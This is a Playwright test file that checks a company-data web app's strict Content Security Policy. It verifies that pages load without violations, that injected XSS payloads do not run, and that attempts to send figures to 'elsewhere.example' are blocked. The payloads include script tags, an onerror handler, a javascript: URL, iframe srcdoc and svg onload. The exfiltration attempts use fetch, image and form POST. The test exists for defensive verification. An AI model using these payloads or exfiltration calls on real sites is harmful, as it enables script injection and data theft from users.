import type { Page } from 'playwright/test';
import { notFoundMessage, pages } from './support/pages';
import { company } from './support/stability-ai';
import { expect, test } from './support/test';

declare global {
  interface Window {
    refusals: string[];
    ran: string[];
  }
}

/** What the browser refuses on the page and on all that a script opens in it. */
async function listen(page: Page): Promise<() => Promise<string[]>> {
  await page.addInitScript(() => {
    window.refusals = [];
    window.ran = [];
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI, sample }) => {
      window.refusals.push(`${effectiveDirective}: ${blockedURI} ${sample}`);
    });
  });
  return () => page.evaluate(() => window.refusals);
}

/** From top to bottom, turning to every chart so that Recharts draws it. */
async function readWhole(page: Page): Promise<void> {
  for (const figure of await page.locator('figure[id^="chart-"]:has([data-drawing])').all()) {
    await figure.scrollIntoViewIfNeeded();
    await figure.hover({ position: { x: 5, y: 5 }, timeout: 5_000 }).catch(() => {});
  }
  await page.waitForLoadState('networkidle');
}

test.describe('no part of a page is refused by its own policy', () => {
  test.use({ expectedError: notFoundMessage });
  for (const [name, address] of Object.entries(pages)) {
    test(`on ${name}`, async ({ page }) => {
      const refusals = await listen(page);
      const answer = await page.goto(address);
      const policy = (await answer?.headerValue('content-security-policy')) ?? '';
      expect(policy).toContain("default-src 'none'; script-src 'self' 'sha256-");
      expect(policy).not.toMatch(/unsafe|nonce|https?:|\*/);
      await readWhole(page);
      await page.emulateMedia({ media: 'print' });
      expect(await refusals()).toEqual([]);
    });
  }
});

test('menus, the palette, a live chart’s tip and pages opened by script need nothing that is refused', async ({
  page,
}) => {
  const refusals = await listen(page);
  await page.goto(company, { waitUntil: 'networkidle' });
  const chart = page.locator('#chart-debt');
  await chart.scrollIntoViewIfNeeded();
  await chart.hover({ position: { x: 5, y: 5 } });
  await chart.locator('g[data-mark][tabindex]').first().focus();
  await expect(chart.getByRole('status')).toBeVisible();
  await chart.getByRole('button', { name: /^Take the chart/ }).click();
  await expect(page.getByRole('img', { name: /^Preview of the file/ })).toBeVisible();
  await page.keyboard.press('Escape');
  await page.keyboard.press('Control+k');
  await expect(page.getByRole('combobox', { name: 'Find' })).toBeFocused();
  await page.keyboard.press('Escape');
  await page.getByRole('link', { name: 'Headcount', exact: true }).first().click();
  await expect(page).toHaveURL(/\/headcount$/);
  await readWhole(page);
  expect(await refusals()).toEqual([]);
});

test('the foot of printed sheets is there on the first page, and on one that a script opened', async ({ page }) => {
  const sheets = () =>
    page.evaluate(() => {
      const all = [...document.styleSheets, ...document.adoptedStyleSheets];
      return all
        .flatMap((sheet) => [...sheet.cssRules].map(({ cssText }) => cssText))
        .filter((text) => /bottom-left/.test(text));
    });
  await page.goto(company, { waitUntil: 'networkidle' });
  await expect.poll(sheets).toEqual([expect.stringContaining('stability-ai"')]);
  await page.getByRole('link', { name: 'Headcount', exact: true }).first().click();
  await expect(page).toHaveURL(/\/headcount$/);
  await expect.poll(sheets).toEqual([expect.stringContaining('stability-ai/headcount"')]);
});

test('the briefing editor, its dialogs and its pictures need nothing that is refused', async ({ page }) => {
  const refusals = await listen(page);
  await page.goto(`${company}/briefing`, { waitUntil: 'networkidle' });
  await page
    .getByRole('button', { name: /^Drag / })
    .first()
    .focus();
  await page.keyboard.press('Space');
  await page.keyboard.press('ArrowDown');
  await page.keyboard.press('Space');
  const picture = page.getByRole('img', { name: /^Slide 2: / });
  await picture.scrollIntoViewIfNeeded();
  await expect(picture).toHaveAttribute('aria-busy', 'false');
  expect(await refusals()).toEqual([]);
});

const script = "window.ran.push('markup')";
const intruders = `<script>${script}</script><script>self.__next_f.push([1,"a"]);${script}</script>
  <img src="/nothing.png" onerror="window.ran.push('handler')"><a id="go" href="javascript:window.ran.push('address')">go</a>
  <iframe srcdoc="<script>parent.ran.push('frame')</script>"></iframe><p id="styled" style="color: rgb(1, 2, 3)">styled</p>`;

test.describe('what came into a page with somebody’s text', () => {
  test.use({ expectedError: /Content Security Policy|Refused|404|Minified React error/ });

  test('does not run: in the markup, in a handler, in an address, in a frame, made by a script', async ({ page }) => {
    const refusals = await listen(page);
    await page.route(`**${company}/sources`, async (route) => {
      const answer = await route.fetch();
      await route.fulfill({ response: answer, body: (await answer.text()).replace('</main>', `${intruders}</main>`) });
    });
    await page.goto(`${company}/sources`);
    await page.evaluate((text) => {
      document.body.append(Object.assign(document.createElement('script'), { textContent: text }));
      document.body.insertAdjacentHTML('beforeend', `<svg onload="window.ran.push('svg')"></svg>`);
      document.querySelector<HTMLAnchorElement>('#go')?.click();
      setTimeout("window.ran.push('text')" as unknown as () => void);
    }, script);
    await expect.poll(async () => (await refusals()).length).toBeGreaterThan(5);
    expect(await page.evaluate(() => window.ran)).toEqual([]);
    expect(await page.locator('#styled').evaluateAll((all) => all.map((p) => getComputedStyle(p).color))).not.toContain(
      'rgb(1, 2, 3)',
    );
  });

  test('cannot take figures to another site', async ({ page }) => {
    const left: string[] = [];
    await page.route('https://elsewhere.example/**', (route) => {
      left.push(route.request().url());
      return route.abort();
    });
    await page.goto(company);
    const ways = await page.evaluate(async () => {
      const outcome = await fetch('https://elsewhere.example/?figures=1').then(
        () => 'left',
        () => 'refused',
      );
      document.body.append(Object.assign(new Image(), { src: 'https://elsewhere.example/a.png' }));
      const form = Object.assign(document.createElement('form'), {
        action: 'https://elsewhere.example/',
        method: 'POST',
      });
      document.body.append(form);
      form.submit();
      return outcome;
    });
    expect(ways).toBe('refused');
    expect(await page.evaluate(() => location.pathname)).toBe(company);
    expect(left).toEqual([]);
  });
});
